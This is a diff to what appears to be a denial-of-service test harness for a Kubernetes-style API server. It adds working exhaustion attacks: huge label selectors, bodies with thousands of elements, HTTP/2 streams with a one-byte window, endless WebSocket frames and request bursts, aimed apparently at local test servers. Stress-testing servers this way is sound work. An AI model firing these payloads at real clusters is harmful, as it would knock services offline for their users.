@@ -270,10 +270,83 @@ def lists(options) -> None:
     attack("lists", options, prepare)
 
 
+def selectors(options) -> None:
+    """Lists and watches of many objects with selectors as long as they may be."""
+    selector = ",".join(f"!a{n}" for n in range(4000))
+
+    def prepare(target, parts):
+        for n in range(2000):
+            target.ask("POST", MAPS, {"metadata": {"generateName": f"s{n}-"}}, token=servers.ADMIN_TOKEN)
+        parts.enter_context(threads(6, lambda: target.ask("GET", f"{MAPS}?labelSelector={selector}")))
+        watch = f"{MAPS}?watch=1&resourceVersion=0&timeoutSeconds=1&labelSelector={selector}"
+        parts.enter_context(threads(6, lambda: target.ask("GET", watch)))
+
+    attack("selectors", options, prepare)
+
+
+def elements(options) -> None:
+    """Small bodies with thousands of elements, each of which is defaulted and refused."""
+    ports = json.dumps({"metadata": {"generateName": "e-"}, "spec": {"ports": [{}] * 2600}}, separators=(",", ":"))
+    containers = json.dumps({"metadata": {"generateName": "e-"}, "spec": {"containers": [{}] * 2600}}, separators=(",", ":"))
+    services = "/api/v1/namespaces/default/services"
+
+    def prepare(target, parts):
+        for path, body in [(services, ports), (PODS, containers)]:
+            work = lambda path=path, body=body: target.ask("POST", f"{path}?dryRun=All", body)
+            parts.enter_context(threads(8, work))
+
+    attack("elements", options, prepare)
+
+
+def unread(options) -> None:
+    """Answers that are not read: large documents and objects over HTTP/2, and messages over WebSocket that never end."""
+
+    def prepare(target, parts):
+        target.ask("POST", MAPS, {"metadata": {"name": "long"}, "data": {"text": "x" * 60_000}}, token=servers.ADMIN_TOKEN)
+        for path in ["/openapi/v2", "/metrics", f"{MAPS}/long"]:
+            for _ in range(3):
+                parts.enter_context(contextlib.closing(target.raw(http2_requests(300, path, window=1))))
+        upgrade = (f"GET {MAPS}?watch=1 HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {servers.MALLORY_TOKEN}\r\n"
+                   "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+                   "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nOrigin: http://h\r\n\r\n").encode()
+        # A frame of a message that goes on, masked with zeros.
+        frame = b"\x02\xff" + (1 << 20).to_bytes(8, "big") + bytes(4) + b"y" * (1 << 20)
+        for _ in range(30):
+            connection = parts.enter_context(contextlib.closing(target.raw(upgrade)))
+            with contextlib.suppress(OSError):  # a message that is too long is refused
+                for _ in range(20):
+                    connection.sendall(frame)
+
+    attack("unread", options, prepare)
+
+
+def bursts(options) -> None:
+    """A thousand cheap requests at once on an HTTP/2 connection, again and again."""
+
+    def burst(target, count, path):
+        with contextlib.closing(target.raw(http2_requests(count, path, window=1 << 20))) as connection:
+            connection.settimeout(0.5)
+            with contextlib.suppress(OSError):
+                while connection.recv(1 << 20):
+                    pass
+
+    def prepare(target, parts):
+        for count, path in [(900, "/version"), (900, f"{MAPS}/victim"), (100, "/metrics"), (100, "/openapi/v2")]:
+            work = lambda count=count, path=path: burst(target, count, path)
+            parts.enter_context(threads(1, work))
+
+    attack("bursts", options, prepare)
+
+
 def http2_lists(count: int) -> bytes:
     """The beginning of an HTTP/2 connection with a window of one byte, and requests for lists on it."""
-    settings = http2_frame(4, 0, 0, b"\0\4\0\0\0\1")
-    requests = b"".join(http2_frame(1, 5, 2 * n + 1, http2_head("GET")) for n in range(count))
+    return http2_requests(count, MAPS, window=1)
+
+
+def http2_requests(count: int, path: str, window: int) -> bytes:
+    """The beginning of an HTTP/2 connection whose streams have this window, and requests on it."""
+    settings = http2_frame(4, 0, 0, b"\0\4" + window.to_bytes(4, "big"))
+    requests = b"".join(http2_frame(1, 5, 2 * n + 1, http2_head("GET", path)) for n in range(count))
     return HTTP2_PREFACE + settings + requests
 
 
@@ -284,13 +357,13 @@ def http2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
-def http2_head(method: str) -> bytes:
+def http2_head(method: str, path: str = MAPS) -> bytes:
     """The headers of a request, none of them compressed."""
 
     def literal(text: str) -> bytes:
         return bytes([len(text)]) + text.encode()
 
-    headers = [(":method", method), (":path", MAPS), (":scheme", "http"), (":authority", "h"),
+    headers = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "h"),
                ("authorization", f"Bearer {servers.MALLORY_TOKEN}")]
     return b"".join(b"\0" + literal(name) + literal(value) for name, value in headers)
 
@@ -407,7 +480,8 @@ def until_gone(target: Target, name: str) -> None:
         time.sleep(0.01)
 
 
-ATTACKS = {work.__name__: work for work in [patches, documents, lists, bodies, connections, namespaces]}
+ATTACKS = {work.__name__: work for work in [patches, documents, lists, selectors, elements, unread, bursts,
+                                           bodies, connections, namespaces]}
 
 
 def main() -> int:
